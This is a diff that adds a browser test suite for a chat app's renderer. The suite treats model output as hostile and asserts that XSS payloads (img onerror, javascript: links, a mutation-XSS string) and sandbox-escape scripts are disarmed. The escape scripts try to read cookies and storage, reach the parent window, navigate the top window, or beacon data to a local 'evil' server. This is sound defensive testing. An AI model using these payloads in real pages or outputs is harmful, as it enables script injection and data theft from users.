@@ -1,0 +1,222 @@
+/**
+ * Hostile model output in a real browser (SPEC U9): each attack is let run, and must be seen to fail. An "evil" server listens on
+ * loopback; a single request that reaches it fails the suite.
+ */
+import { createServer } from "node:http";
+import { after, before, describe, it } from "node:test";
+import { ask, assert, lastFrame, openBrowser, startFake } from "./harness.mjs";
+
+let server;
+let browser;
+let page;
+let evil;
+const hits = [];
+
+before(async () => {
+  const listener = createServer((request, response) => {
+    hits.push(`${request.method} ${request.url}`);
+    response.writeHead(200, { "Access-Control-Allow-Origin": "*", "Content-Type": "text/html" }).end("<script>parent.postMessage('evil','*')</script>");
+  });
+  await new Promise((resolve) => listener.listen(0, "127.0.0.1", resolve));
+  evil = { url: `http://127.0.0.1:${listener.address().port}`, port: listener.address().port, close: () => listener.close() };
+  server = await startFake({ auth: true });
+  browser = await openBrowser();
+  page = browser.page;
+  await page.goto(server.url);
+  await page.getByLabel("用户名").fill("ana");
+  await page.getByLabel("密码").fill("secret");
+  await page.keyboard.press("Enter");
+  await page.getByRole("heading", { name: "想分析什么？" }).waitFor();
+  await page.evaluate(() => {
+    localStorage.setItem("secret", "local");
+    document.cookie = "readable=1; SameSite=Strict";
+    window.messages = [];
+    addEventListener("message", (event) => window.messages.push(event.data));
+  });
+});
+
+after(async () => {
+  await browser?.close();
+  server?.close();
+  evil?.close();
+});
+
+/** Nothing got out, nothing ran in the page, and the page is still itself. */
+async function unharmed() {
+  await page.waitForTimeout(250);
+  assert.deepEqual(hits, [], "no request reached the evil server");
+  assert.equal(await page.evaluate(() => window.pwned), undefined, "nothing ran in the page's own origin");
+  assert.ok(page.url().startsWith(server.url), "the top window stayed");
+  assert.equal(page.context().pages().length, 1, "no window was opened");
+  await page.getByRole("textbox", { name: "你的问题" }).waitFor();
+}
+
+async function answer(text) {
+  const count = await page.locator("article").count();
+  await ask(page, text);
+  await page.locator("article").nth(count).waitFor();
+  await page.locator("article[data-state=complete]").nth(count).waitFor();
+  return page.locator("article").nth(count);
+}
+
+/** Runs `code` (an async function body) in the frame and gives back what it returned or threw. */
+async function inFrame(code) {
+  await answer(`HOSTILE:攻击\n\n<div id="out">等待</div>\n<script>(async () => { ${code} })().then((v) => { out.textContent = "RESULT " + String(v) }, (e) => { out.textContent = "THROWN " + e.name + ": " + e.message });</script>`);
+  const frame = await lastFrame(page);
+  const out = frame.locator("#out");
+  await out.filter({ hasText: /RESULT|THROWN/ }).waitFor();
+  const text = await out.innerText();
+  await unharmed();
+  return text;
+}
+
+describe("markdown in the page", () => {
+  const ATTACKS = {
+    "img onerror": "MD:<img src=x onerror='window.pwned=1'>",
+    "svg onload": "MD:a <b><svg onload='window.pwned=1'><animate onbegin='window.pwned=1'></svg></b>",
+    "javascript link": "MD:[点我](javascript:window.pwned=1)",
+    "obfuscated link": "MD:<a href='java&#10;script:window.pwned=1'>点我</a>",
+    "data link": "MD:<a href='data:text/html,<script>opener.pwned=1</script>' target=_top>点我</a>",
+    "mutation": "MD:<b><math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=window.pwned=1&gt;'></b>",
+    "table cell": "MD:| a |\n|---|\n| <img src=x onerror='window.pwned=1'> [x](javascript:window.pwned=1) |",
+    "math": "MD:公式 $\\href{javascript:window.pwned=1}{x} = \\includegraphics{EVIL/a.png} \\htmlStyle{background:url(EVIL)}{y}$",
+    "beacon image": "MD:![图](EVIL/beacon?c=1)",
+    "style": "MD:<b><style>body{background:url(EVIL/css)}</style></b>",
+    "clobbering": "MD:<b id=app><a id=main name=body>x</a></b>",
+  };
+  for (const [name, text] of Object.entries(ATTACKS)) {
+    it(`disarms: ${name}`, async () => {
+      const article = await answer(text.replaceAll("EVIL", evil.url));
+      for (const link of await article.locator("[data-part=report] a[href]").all()) assert.doesNotMatch(await link.getAttribute("href"), /^(javascript|data)/i);
+      const clickable = article.locator("[data-part=report] a").first();
+      if (await clickable.count()) await clickable.click({ timeout: 1000 }).catch(() => {});
+      await unharmed();
+    });
+  }
+
+  it("shows a hostile file name, question, error and observation as text", async () => {
+    const article = await answer("MD:<script>window.pwned=1</script><img src=x onerror=window.pwned=1>");
+    assert.match(await article.locator("[data-part=question]").innerText(), /<script>/);
+    await unharmed();
+  });
+});
+
+describe("a script in the sandboxed frame", () => {
+  const FAILS = {
+    "reads cookies": "return document.cookie",
+    "writes cookies": "document.cookie = 'a=1'; return document.cookie",
+    "reads localStorage": "return localStorage.getItem('secret')",
+    "reads sessionStorage": "return sessionStorage.length",
+    "opens IndexedDB": "await new Promise((ok, no) => { const r = indexedDB.open('x'); r.onsuccess = ok; r.onerror = () => no(r.error) }); return 'opened'",
+    "reads the parent's document": "return parent.document.body.innerText",
+    "reads the parent's location": "return parent.location.href",
+    "calls into the parent": "parent.pwned = 1; return parent.pwned",
+    "reaches the top window's document": "return top.document.title",
+    "reads the frame element": "const f = window.frameElement; if (!f) throw new Error('no frame element'); return f.outerHTML",
+    "navigates the top window": "top.location.href = 'EVIL/top'; return 'set'",
+    "replaces the top window": "top.location.replace('EVIL/top'); return 'set'",
+    "fetches its server": "return (await fetch('SELF/api/v1/conversations')).status",
+    "fetches another server": "return (await fetch('EVIL/fetch', { mode: 'no-cors' })).type",
+    "sends XHR": "await new Promise((ok, no) => { const x = new XMLHttpRequest(); x.onload = ok; x.onerror = () => no(new Error('blocked')); x.open('GET', 'EVIL/xhr'); x.send() }); return 'sent'",
+    "opens a WebSocket": "await new Promise((ok, no) => { const s = new WebSocket('ws://127.0.0.1:PORT/ws'); s.onopen = ok; s.onerror = () => no(new Error('blocked')) }); return 'open'",
+    "opens an EventSource": "await new Promise((ok, no) => { const s = new EventSource('EVIL/es'); s.onopen = ok; s.onerror = () => no(new Error('blocked')) }); return 'open'",
+    "loads an image beacon": "await new Promise((ok, no) => { const i = new Image(); i.onload = ok; i.onerror = () => no(new Error('blocked')); i.src = 'EVIL/img' }); return 'loaded'",
+    "loads a script": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = 'EVIL/js'; document.head.append(s) }); return 'loaded'",
+    "loads a script of its own server": "await new Promise((ok, no) => { const s = document.createElement('script'); s.onload = ok; s.onerror = () => no(new Error('blocked')); s.src = 'SELF/theme.js'; document.head.append(s) }); return 'loaded'",
+    "imports a module": "await import('EVIL/mod.js'); return 'imported'",
+    "starts a worker": "new Worker(URL.createObjectURL(new Blob(['1']))).postMessage(1); await new Promise((ok, no) => setTimeout(() => no(new Error('blocked')), 300))",
+    "registers a service worker": "await navigator.serviceWorker.register('/sw.js'); return 'registered'",
+    "evaluates text": "return eval('1+1')",
+    "opens a window": "const w = window.open('EVIL/open'); if (!w) throw new Error('blocked'); return 'opened'",
+    "uses WebRTC": "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:PORT' }] }); return 'made'",
+    "uses WebTransport": "new WebTransport('https://127.0.0.1:PORT/'); return 'made'",
+    "uses a shadow root": "document.body.attachShadow({ mode: 'open' }); return 'made'",
+    "reads the clipboard": "return await navigator.clipboard.readText()",
+    "asks for the location": "await new Promise((ok, no) => navigator.geolocation.getCurrentPosition(ok, (e) => no(new Error(e.message))))",
+    "goes full screen": "await document.documentElement.requestFullscreen(); return 'full'",
+  };
+  for (const [name, code] of Object.entries(FAILS)) {
+    it(`fails when it ${name}`, async () => {
+      const result = await inFrame(code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url).replaceAll("PORT", String(evil.port)));
+      assert.match(result, /^THROWN/, result);
+    });
+  }
+
+  it("gets no answer from sendBeacon, CSS, fonts, prefetch, ping and forms", async () => {
+    await answer(`HOSTILE:攻击\n\n<style>@import url(${evil.url}/import); @font-face { font-family: x; src: url(${evil.url}/font) } body { font-family: x; background: url(${evil.url}/bg) }</style>
+<div id="t">字<a id="a" href="${evil.url}/link" ping="${evil.url}/ping" target="_top">x</a></div>
+<form id="f" action="${evil.url}/form" method="post" target="_top"><input name="a" value="1"></form>
+<link rel="prefetch" href="${evil.url}/prefetch"><link rel="preconnect" href="${evil.url}"><link rel="stylesheet" href="${evil.url}/sheet">
+<script>navigator.sendBeacon("${evil.url}/beacon", "x"); document.getElementById("a").click(); document.getElementById("f").submit();</script>`);
+    const frame = await lastFrame(page);
+    await frame.locator("#t").waitFor();
+    assert.equal(await frame.locator("link").count(), 0);
+    await unharmed();
+  });
+
+  it("cannot keep a nested frame, with or without its own document", async () => {
+    await answer(`HOSTILE:攻击\n\n<div id="t">嵌套</div><iframe srcdoc="<script>new RTCPeerConnection(); parent.parent.postMessage('nested ran', '*')</script>"></iframe><iframe src="${evil.url}/nested"></iframe>
+<script>for (const tag of ["iframe", "object", "embed"]) { const e = document.createElement(tag); e.srcdoc = "<script>parent.parent.postMessage('nested ran', '*')<\\/script>"; e.data = e.src = "${evil.url}/n"; document.body.append(e); }
+const i = document.createElement("iframe"); document.body.append(i); try { document.getElementById("t").textContent = "RTC " + typeof i.contentWindow.RTCPeerConnection } catch (e) { document.getElementById("t").textContent = "blocked " + e.name }</script>`);
+    const frame = await lastFrame(page);
+    await frame.locator("#t", { hasText: /RTC undefined|blocked/ }).waitFor();
+    await unharmed();
+    assert.equal(await frame.locator("iframe, object, embed").count(), 0);
+    assert.ok(!(await page.evaluate(() => window.messages)).includes("nested ran"));
+  });
+
+  for (const [name, code] of [
+    ["assigning its location", `location.href = "EVIL/self?data=1"`],
+    ["a meta refresh", `document.head.insertAdjacentHTML("beforeend", '<meta http-equiv="refresh" content="0;url=EVIL/meta">')`],
+    ["a data: document", `location.href = "data:text/html,<script>fetch('EVIL/data')<\\/script>"`],
+    ["a blob: document", `location.href = URL.createObjectURL(new Blob(["<script>fetch('EVIL/blob')<\\/script>"], { type: "text/html" }))`],
+    ["the page itself", `location.href = "SELF/"`],
+  ]) {
+    it(`cannot leave its frame by ${name}`, async () => {
+      await answer(`HOSTILE:攻击\n\n<div>离开</div><script>setTimeout(() => { ${code.replaceAll("EVIL", evil.url).replaceAll("SELF", server.url)} }, 150)</script>`);
+      await page.locator("[data-part=frame]").last().getByText("试图离开沙箱，已被阻止").waitFor();
+      await unharmed();
+    });
+  }
+
+  it("cannot deceive the page by messages", async () => {
+    const article = await answer(`HOSTILE:攻击\n\n<div>消息</div><script>
+for (const m of [{ type: "ba:error2" }, { type: "ba:height", height: 1e12 }, { type: "ba:height", height: "<b>" }, { type: "ba:png", request: "", images: ["data:text/html,<b>1</b>"] }, { type: "ba:hello" }, "ba:hello", null, { type: "ba:render", html: "<img src=x onerror=pwned=1>" }]) parent.postMessage(m, "*");
+setTimeout(() => parent.postMessage({ type: "ba:error", message: "<img src=x onerror='window.pwned=1'><a href='javascript:1'>x</a>" }, "*"), 400)</script>`);
+    await article.locator("[data-part=frame][data-phase=failed]").waitFor();
+    assert.match(await article.locator(".problem").innerText(), /<img src=x onerror=/, "the message is shown as text");
+    assert.ok((await article.evaluate((node) => node.getBoundingClientRect().height)) < 5000);
+    await unharmed();
+  });
+
+  it("cannot speak for another frame, nor can another window", async () => {
+    const before = await page.locator("[data-part=frame]").count();
+    await page.evaluate(() => {
+      for (const type of ["ba:error", "ba:height"]) window.postMessage({ type, message: "forged", height: 3000 }, "*");
+    });
+    await page.waitForTimeout(200);
+    assert.equal(await page.getByText("forged").count(), 0);
+    assert.equal(await page.locator("[data-part=frame]").count(), before);
+  });
+
+  it("cannot start a download or a dialog", async () => {
+    const downloads = [];
+    const dialogs = [];
+    page.on("download", (item) => downloads.push(item.url()));
+    page.on("dialog", (item) => (dialogs.push(item.message()), item.dismiss()));
+    await answer(`HOSTILE:攻击\n\n<div>下载</div><script>alert(1); confirm(2); const a = document.createElement("a"); a.download = "x.exe"; a.href = "data:application/octet-stream,x"; document.body.append(a); a.click(); print();</script>`);
+    await page.waitForTimeout(400);
+    assert.deepEqual([downloads, dialogs], [[], []]);
+    await unharmed();
+  });
+
+  it("cannot hold the page with an endless loop", async () => {
+    await answer("HOSTILE:攻击\n\n<div>循环</div><script>for (;;) {}</script>");
+    await page.waitForTimeout(500);
+    await page.getByRole("textbox", { name: "你的问题" }).fill("还活着", { timeout: 5000 });
+    await page.getByRole("button", { name: "停止绘制" }).click({ timeout: 15_000 });
+    await page.locator("[data-phase=stopped]").waitFor();
+    const article = await answer("MD:下一个回答");
+    await article.getByText("下一个回答").last().waitFor();
+  });
+});
